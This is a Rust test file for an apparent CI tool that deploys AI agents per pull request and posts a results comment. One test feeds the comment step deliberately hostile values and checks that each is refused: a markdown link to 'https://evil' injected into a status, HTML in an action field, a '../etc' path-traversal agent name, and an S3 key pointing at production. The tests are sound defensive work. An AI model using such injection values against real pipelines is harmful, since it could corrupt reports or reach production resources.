    assert_eq!(gh::pr_plan(&ctx(None), &args).unwrap().agents, ["echo_bot", "weather_report_bot"]);
}

/// The tests run the steps in-process, in an environment that may be a CI job's: their context names
/// no GitHub files, so no step appends to that job's `$GITHUB_OUTPUT` or `$GITHUB_STEP_SUMMARY`.
/// Given files, a step writes its outputs there and nowhere else.
#[test]
fn in_process_steps_write_github_outputs_only_where_their_context_says() {
    assert_eq!(ctx(None).github, GithubFiles::default(), "a test's context names no GitHub files");
    let dir = tempfile::tempdir().unwrap();
    let files = GithubFiles { output: Some(dir.path().join("output")), step_summary: Some(dir.path().join("summary")) };
    let changed = dir.path().join("changed.txt");
    std::fs::write(&changed, "prompts/echo_bot.txt\n").unwrap();
    let args = gh::PrPlanArgs { event: event_args("pr_opened.json", None), changed_files: Some(changed) };
    gh::pr_plan(&Ctx { github: files, ..ctx(None) }, &args).unwrap();
    let outputs = github_outputs(&dir.path().join("output"));
    let expected = [("agents", r#"["echo_bot"]"#), ("fork", "false")];
    assert_eq!(outputs, expected.map(|(key, value)| (key.to_owned(), value.to_owned())).into());
    let mut written: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into())
        .collect();
    written.sort();
    assert_eq!(written, ["changed.txt", "output"], "pr-plan writes outputs and no summary");
}

/// One job's result is there, the other job never wrote one (cancelled, runner lost): the comment
/// shows both, the missing one as failed.
#[test]
fn pr_comment_gathers_the_matrix_results() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("results")).unwrap();
    let ok = matrix_result("echo_bot", 12, PR_HEAD, Ok(deployed("echo_bot_pr_12", "3", "updated")));
    std::fs::write(dir.path().join("results/echo_bot.json"), ok).unwrap();
    std::fs::write(dir.path().join("results/notes.txt"), "not a result").unwrap();
    let args = pr_comment_args(dir.path(), r#"["echo_bot","weather_report_bot"]"#);
    let report = gh::pr_comment(&ctx(None), &args).unwrap();
    assert_eq!(report.result, "failed");
    let comment = std::fs::read_to_string(dir.path().join("comment.md")).unwrap();
    assert_eq!(report.markdown.as_deref(), Some(comment.as_str()));
    assert!(comment.contains("deployed 1 of 2 affected agents"), "{comment}");
    assert!(comment.contains("deploy job did not finish"), "{comment}");
    snapshot("pr_comment_gathered", &comment);

    // No results folder at all (every job died before uploading): every agent is reported.
    let empty = tempfile::tempdir().unwrap();
    let report = gh::pr_comment(&ctx(None), &pr_comment_args(empty.path(), r#"["echo_bot"]"#)).unwrap();
    assert!(report.markdown.unwrap().contains("deployed 0 of 1 affected agents"));
    // An empty plan: the comment says nothing changed.
    let report = gh::pr_comment(&ctx(None), &pr_comment_args(empty.path(), "[]")).unwrap();
    assert_eq!(report.result, "nothing");
}

#[test]
fn pr_comment_refuses_results_that_do_not_belong() {
    let good = || Ok(deployed("echo_bot_pr_12", "3", "updated"));
    type Files = Vec<(&'static str, String)>;
    let cases: Vec<(&str, Files, &str, &str)> = vec![
        (
            "an agent the plan did not list",
            vec![("m.json", matrix_result("weather_report_bot", 12, PR_HEAD, good()))],
            r#"["echo_bot"]"#,
            "which the plan did not list",
        ),
        (
            "another pull request",
            vec![("d.json", matrix_result("echo_bot", 13, PR_HEAD, good()))],
            r#"["echo_bot"]"#,
            "not of PR #12",
        ),
        (
            "another commit",
            vec![("d.json", matrix_result("echo_bot", 12, COMMIT, good()))],
            r#"["echo_bot"]"#,
            "not of PR #12",
        ),
        (
            "two results for one agent",
            vec![
                ("a.json", matrix_result("echo_bot", 12, PR_HEAD, good())),
                ("b.json", matrix_result("echo_bot", 12, PR_HEAD, Err("x".into()))),
            ],
            r#"["echo_bot"]"#,
            "second result",
        ),
        ("not JSON", vec![("d.json", "{".into())], r#"["echo_bot"]"#, "not a result file"),
        (
            "another runtime",
            vec![("d.json", matrix_result("echo_bot", 12, PR_HEAD, Ok(deployed("echo_bot_prod", "3", "updated"))))],
            r#"["echo_bot"]"#,
            "deploys to `echo_bot_pr_12`, not `echo_bot_prod`",
        ),
        (
            "a table-breaking status",
            vec![("d.json", {
                let mut hostile = deployed("echo_bot_pr_12", "3", "updated");
                hostile.status = "READY | [x](https://evil)".into();
                matrix_result("echo_bot", 12, PR_HEAD, Ok(hostile))
            })],
            r#"["echo_bot"]"#,
            "not an AgentCore status",
        ),
        (
            "an unknown action",
            vec![(
                "d.json",
                matrix_result("echo_bot", 12, PR_HEAD, good())
                    .replace(r#""action":"updated""#, r#""action":"<b>pwned</b>""#),
            )],
            r#"["echo_bot"]"#,
            "not a result file",
        ),
        (
            "a version that is not one",
            vec![("d.json", matrix_result("echo_bot", 12, PR_HEAD, Ok(deployed("echo_bot_pr_12", "v3", "updated"))))],
            r#"["echo_bot"]"#,
            "version `v3`",
        ),
        (
            "an S3 key elsewhere",
            vec![("d.json", {
                let mut hostile = deployed("echo_bot_pr_12", "3", "updated");
                hostile.s3_key = Some("echo_bot_prod/v1/code.zip".into());
                matrix_result("echo_bot", 12, PR_HEAD, Ok(hostile))
            })],
            r#"["echo_bot"]"#,
            "not under `echo_bot_pr_12/`",
        ),
        (
            "an unknown field",
            vec![(
                "d.json",
                matrix_result("echo_bot", 12, PR_HEAD, good()).replace(r#""pr":12"#, r#""pr":12,"html":"<b>""#),
            )],
            r#"["echo_bot"]"#,
            "not a result file",
        ),
        ("oversized", vec![("d.json", " ".repeat(1024 * 1024 + 1))], r#"["echo_bot"]"#, "bytes"),
        ("agents not JSON", vec![], "echo_bot", "JSON array of agent names"),
        ("an unknown agent", vec![], r#"["echo_bot","../etc"]"#, "no agent named `../etc`"),
    ];
    for (name, files, agents, expected) in cases {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("results")).unwrap();
        for (file, text) in files {
            std::fs::write(dir.path().join("results").join(file), text).unwrap();
        }
        let err = format!("{:#}", gh::pr_comment(&ctx(None), &pr_comment_args(dir.path(), agents)).unwrap_err());
        assert!(err.contains(expected), "{name}: expected `{expected}` in {err}");
        assert!(!dir.path().join("comment.md").exists(), "{name}: nothing is rendered");
    }
    // A fork is never deployed, so it has no results to gather.
    let dir = tempfile::tempdir().unwrap();
    let mut args = pr_comment_args(dir.path(), "[]");
    args.event = event_args("pr_fork_opened.json", None);
    assert!(gh::pr_comment(&ctx(None), &args).unwrap_err().to_string().contains("fork"));
}

/// The matrix job of a fork's pull request is refused before any AWS call.
#[test]
fn a_fork_is_never_deployed_one_agent_at_a_time() {
    let mut ctx = ctx(None);
    ctx.aws = AwsArgs { endpoint_url: Some("http://127.0.0.1:9".into()), ..Default::default() };
    let dir = tempfile::tempdir().unwrap();
    let args = gh::PrDeployArgs {
        event: event_args("pr_fork_opened.json", None),
        changed_files: None,
        agent: Some("echo_bot".into()),
        result: Some(dir.path().join("result.json")),
        force: false,
        package_dir: None,
        smoke: false,
    };
    let err = format!("{:#}", xtask::context::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
    assert!(err.contains("comes from a fork") && err.contains("no deploy"), "{err}");
    assert!(!dir.path().join("result.json").exists());
}

/// A matrix job whose deploy fails still writes its result, so the comment says why; the step fails.
#[test]
fn a_failed_matrix_job_still_writes_its_result() {
    let dir = tempfile::tempdir().unwrap();
    // The bundled stack, started and stopped by the step itself.
    let ctx = ctx(Some(&dir.path().join("state")));
    let result = dir.path().join("echo_bot.json");
    let args = gh::PrDeployArgs {
        event: event_args("pr_opened.json", None),
        changed_files: None,
        agent: Some("echo_bot".into()),
        result: Some(result.clone()),
        force: false,
        // An empty folder: the zip is missing, so the deploy fails before it changes anything.
        package_dir: Some(dir.path().join("zips")),
        smoke: false,
    };
    let err = format!("{:#}", xtask::context::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
    assert!(err.contains("deploy failed for echo_bot"), "{err}");
    let written: Vec<render::AgentResult> = serde_json::from_str(&std::fs::read_to_string(&result).unwrap()).unwrap();
    assert_eq!((written.len(), written[0].agent.as_str(), written[0].pr), (1, "echo_bot", 12));
    let reason = written[0].outcome.as_ref().unwrap_err();
    assert!(reason.contains("cannot read the zip"), "{reason}");
    // An agent that does not exist is refused before anything is written.
    let args = gh::PrDeployArgs { agent: Some("evil_bot".into()), ..args };
    std::fs::remove_file(&result).unwrap();
    let err = xtask::context::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err().to_string();
    assert!(err.contains("no agent named `evil_bot`"), "{err}");
    assert!(!result.exists());
}
